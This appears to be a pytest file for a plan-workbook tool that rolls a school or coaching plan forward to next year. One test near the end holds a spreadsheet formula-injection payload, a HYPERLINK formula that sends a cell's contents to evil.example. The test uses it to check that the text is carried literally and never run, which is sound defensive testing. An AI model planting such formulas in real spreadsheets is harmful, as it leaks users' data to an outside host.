"""`plangen new KIND NEXT.xlsx --from THIS.xlsx`: next year's guided workbook from each
example, read back with openpyxl and opened by LibreOffice; it carries exactly the open
items and `validate` lists exactly the cells marked for revision."""

from __future__ import annotations

import json
import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from conftest import example_copy, example_path
from openpyxl import load_workbook

from plangen.cli import cli
from plangen.kinds import KINDS, get_kind
from plangen.next_year import next_period, roll_forward
from plangen.pipeline import load
from plangen.workbook.revise import REVISE_MARK

NEXT_PERIOD = {
    "system": ("2022-23", "2023-24", date(2023, 10, 31), date(2024, 6, 30)),
    "district": ("2023-24", "2024-25", date(2024, 8, 28), date(2025, 6, 30)),
    "coaching-system": ("2024-25", "2025-26", date(2025, 9, 16), date(2026, 6, 30)),
    "coaching-action-plan": ("2024-25", "2025-26", date(2025, 8, 12), date(2026, 6, 30)),
}


def run(*args: str | Path) -> Result:
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


@pytest.fixture(scope="module")
def rolled(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, Result]]:
    """Each example rolled forward with the command, as a coordinator runs it."""
    folder = tmp_path_factory.mktemp("next")
    made = {}
    for kind in sorted(KINDS):
        target = folder / f"{kind}-next.xlsx"
        made[kind] = (target, run("new", kind, target, "--from", example_path(kind)))
    return made


def marked_cells(path: Path) -> set[tuple[str, str]]:
    """Every cell whose text starts with the revision mark, found with openpyxl alone."""
    book = load_workbook(path)
    return {
        (ws.title, cell.coordinate)
        for ws in book.worksheets
        if ws.title not in ("Instructions", "Lists")
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(REVISE_MARK)
    }


def open_items_of(source: Path) -> int:
    """Items neither completed nor dropped, from `plangen status --json` as of the
    plan's last day (so every completion counts)."""
    end = load(source).plan.end
    assert end is not None
    status = json.loads(run("status", "--json", "--as-of", end.isoformat(), source).output)
    return status["overall"]["planned"] - status["overall"]["completed"]


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_next_year_opens_with_its_drop_downs_and_the_new_period(
    kind: str, rolled: dict[str, tuple[Path, Result]]
) -> None:
    target, result = rolled[kind]
    assert result.exit_code == 0, result.output
    old, new, start, end = NEXT_PERIOD[kind]
    assert f"({new}, {start.isoformat()} to {end.isoformat()})" in result.output
    book = load_workbook(target)
    plan_kind = get_kind(kind)
    assert book.sheetnames == ["Instructions", *(s.name for s in plan_kind.sheets), "Lists"]
    assert book["Lists"].sheet_state == "hidden"
    assert f"from {example_path(kind).name} ({old})" in book["Instructions"]["A3"].value
    for sheet in plan_kind.sheets:
        if sheet.tracked:
            lists = [d for d in book[sheet.name].data_validations.dataValidation]
            assert any(d.type == "list" and "Lists" in d.formula1 for d in lists)
    plan = book["Plan"]
    values = {plan.cell(r, 1).value: plan.cell(r, 2).value for r in range(4, 20)}
    first = next(f for f in plan_kind.sheet("plan").fields if f.key == "date_initiated")
    assert values[first.header] == datetime.combine(start, datetime.min.time())
    assert values[plan_kind.sheet("plan").field("plan_end").header] == datetime.combine(
        end, datetime.min.time()
    )
    assert values[plan_kind.sheet("plan").field("as_of").header] is None
    source = load(example_path(kind)).plan
    assert values[plan_kind.sheet("plan").field("district").header] == source.fields["district"]


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_next_year_carries_exactly_the_open_items(
    kind: str, rolled: dict[str, tuple[Path, Result]]
) -> None:
    target, result = rolled[kind]
    old = NEXT_PERIOD[kind][0]
    book = load_workbook(target)
    noted, rows, reviews = 0, 0, 0
    for sheet in get_kind(kind).sheets:
        ws = book[sheet.name]
        if sheet.key == "reviews":
            reviews = sum(1 for r in ws.iter_rows(min_row=4, values_only=True) if any(r))
        if not sheet.tracked:
            continue
        text = [f.key for f in sheet.fields].index(
            next(f.key for f in sheet.fields if f.required and f.type.value == "text")
        )
        for row in ws.iter_rows(min_row=4):
            cell = row[text]
            if cell.value is None:
                continue
            rows += 1
            if cell.comment is not None:
                assert cell.comment.text.startswith(f"Carried from {old} (")
                noted += 1
                status = row[[f.key for f in sheet.fields].index("status")].value
                assert status in (None, "Not started", "In progress")
            else:
                assert cell.value.startswith(REVISE_MARK)  # a draft row for an emptied group
    open_items = open_items_of(example_path(kind))
    assert noted == open_items
    assert f"carried {open_items} open " in result.output
    assert reviews == 0


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_validate_lists_exactly_the_cells_marked_for_revision(
    kind: str, rolled: dict[str, tuple[Path, Result]]
) -> None:
    target, result = rolled[kind]
    start = NEXT_PERIOD[kind][2]
    checked = run("validate", "--json", "--as-of", start.isoformat(), target)
    assert checked.exit_code == 1
    report = json.loads(checked.output)
    issues = report["errors"] + report["warnings"]
    marked = marked_cells(target)
    assert marked
    assert {(i["sheet"], i["cell"]) for i in issues} == marked
    assert len(issues) == len(marked)
    assert all(i["severity"] == "error" and i["code"] == "revise" for i in issues)
    assert f"to revise ({len(marked)} cells" in result.output
    for sheet, cell in marked:
        assert f"{sheet}!{cell} " in result.output


def test_revising_the_marked_cells_makes_a_plan_that_builds(
    rolled: dict[str, tuple[Path, Result]], tmp_path: Path
) -> None:
    target, _ = rolled["system"]
    book = load_workbook(target)
    for sheet, cell in marked_cells(target):
        book[sheet][cell] = book[sheet][cell].value.removeprefix(REVISE_MARK).strip()
    revised = tmp_path / "revised.xlsx"
    book.save(revised)
    built = run("build", revised, "-o", tmp_path / "out", "--as-of", "2023-11-15")
    assert built.exit_code == 0, built.output
    assert "wrote" in built.output and (tmp_path / "out" / "revised.docx").is_file()


def test_target_dates_move_by_a_year_into_the_new_period(
    rolled: dict[str, tuple[Path, Result]],
) -> None:
    target, _ = rolled["system"]
    ws = load_workbook(target)["Supports"]
    assert ws["B4"].value.startswith("State systems coaches help the leadership team")
    assert ws["D4"].value == "In progress"
    assert ws["E4"].value == datetime(2024, 3, 31)  # was 2023-03-31
    assert ws["F4"].value is None
    assert "Target date 2023-03-31 moved to 2024-03-31" in ws["B4"].comment.text
    goals = load_workbook(target)["Goals"]
    assert goals["B4"].value.startswith(f"{REVISE_MARK} ")
    assert goals["A4"].value == 1


def test_the_libreoffice_copy_keeps_the_drop_downs(
    rolled: dict[str, tuple[Path, Result]], tmp_path: Path
) -> None:
    from plangen.pdf.convert import find_soffice

    files = [str(rolled[kind][0]) for kind in sorted(KINDS)]
    subprocess.run(
        [
            find_soffice(),
            "--headless",
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--convert-to",
            "ods",
            "--outdir",
            str(tmp_path),
            *files,
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    for kind in sorted(KINDS):
        ods = tmp_path / f"{kind}-next.ods"
        content = zipfile.ZipFile(ods).read("content.xml").decode()
        assert "table:content-validation " in content
        assert "cell-content-is-in-list" in content
        again = load(ods, as_of=NEXT_PERIOD[kind][2])  # LibreOffice's copy reads the same
        first = load(rolled[kind][0], as_of=NEXT_PERIOD[kind][2])
        assert [(i.sheet, i.cell) for i in again.report.issues] == [
            (i.sheet, i.cell) for i in first.report.issues
        ]


def test_the_default_period_is_the_year_after_and_a_period_can_be_given(tmp_path: Path) -> None:
    assert next_period(date(2023, 8, 28), date(2024, 6, 30)) == (
        date(2024, 8, 28),
        date(2025, 6, 30),
    )
    assert next_period(date(2024, 1, 1), date(2024, 12, 31)) == (
        date(2025, 1, 1),
        date(2025, 12, 31),
    )
    target = tmp_path / "next.xlsx"
    result = run(
        "new",
        "district",
        target,
        "--from",
        example_path("district"),
        "--period",
        "2025-08-01:2026-06-30",
    )
    assert result.exit_code == 0, result.output
    assert "(2025-26, 2025-08-01 to 2026-06-30)" in result.output
    ws = load_workbook(target)["Coaching Supports"]
    dates = [r[0] for r in ws.iter_rows(min_row=4, min_col=9, max_col=9, values_only=True) if r[0]]
    assert dates and all(date(2025, 8, 1) <= d.date() <= date(2026, 6, 30) for d in dates)


def test_refusals_write_nothing(tmp_path: Path) -> None:
    bad = example_copy(tmp_path / "bad.xlsx", {"Supports!E4": "next spring"})
    target = tmp_path / "next.xlsx"
    result = run("new", "system", target, "--from", bad)
    assert result.exit_code == 1 and "Supports!E4" in result.output
    result = run("new", "district", target, "--from", example_path("system"))
    assert result.exit_code == 1 and "holds a system plan, not a district plan" in result.output
    result = run(
        "new",
        "system",
        target,
        "--from",
        example_path("system"),
        "--period",
        "2020-01-01:2020-06-30",
    )
    assert result.exit_code == 1 and "must start after" in result.output
    result = run("new", "system", target, "--period", "2025-08-01:2026-06-30")
    assert result.exit_code == 2
    assert not target.exists()


def test_the_library_returns_what_it_carried(tmp_path: Path) -> None:
    made = roll_forward(example_path("district"), tmp_path / "next.xlsx", today=date(2024, 7, 1))
    assert made.period == "2024-25" and made.old_period == "2023-24"
    assert [r.name for r in made.reviews][:2] == ["September 2024 review", "October 2024 review"]
    assert made.left["Reviews"] == 6
    assert len(made.carried) == 5
    assert all(c.target is None or c.target.year in (2024, 2025) for c in made.carried)


def test_the_plan_page_starts_next_years_plan(tmp_path: Path) -> None:
    from test_web import client_for, send

    from plangen.web import ServeConfig

    with client_for(ServeConfig(workdir=tmp_path / "work", pdf=False)) as client:
        page = send(client, "maple grove.xlsx", example_path("district").read_bytes())
        assert 'id="next-year"' in page.text and "plan from this one" in page.text
        sent = client.get(str(page.url) + "/file/next")
    assert sent.status_code == 200
    assert sent.headers["content-disposition"].endswith("maple%20grove%202024-25.xlsx")
    target = tmp_path / "next.xlsx"
    target.write_bytes(sent.content)
    assert load_workbook(target)["Plan"]["B4"].value == "Maple Grove Public Schools"
    issues = load(target, as_of=date(2024, 8, 28)).report.issues
    assert issues and {i.code for i in issues} == {"revise"}


def test_text_is_carried_literally_and_the_source_is_untouched(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")'

    def typed_as_text(book) -> None:
        cell = book["Supports"]["B4"]
        cell.value, cell.data_type = formula, "s"  # typed with a leading ' in Excel
        book["Goals"]["B4"] = "-2+3 students\nsecond line"
        book["Supports"]["B8"] = "_x005F_x0041_ team"  # Excel's way of storing _x0041_ team

    source = example_copy(tmp_path / "this.xlsx", edit=typed_as_text)
    before = source.read_bytes()
    target = tmp_path / "next.xlsx"
    result = run("new", "system", target, "--from", source)
    assert result.exit_code == 0, result.output
    assert source.read_bytes() == before
    book = load_workbook(target)
    carried = book["Supports"]["B4"]
    assert carried.value == formula and carried.data_type == "s"
    assert book["Goals"]["B4"].value == f"{REVISE_MARK} -2+3 students\nsecond line"
    loaded = load(target, as_of=date(2023, 10, 31))
    assert ("Goals", "B4") in {(i.sheet, i.cell) for i in loaded.report.issues}
    supports = [r.values["support"] for r in loaded.plan.table("supports")]
    assert "_x0041_ team" in supports  # not "A team": a spreadsheet escape stays text
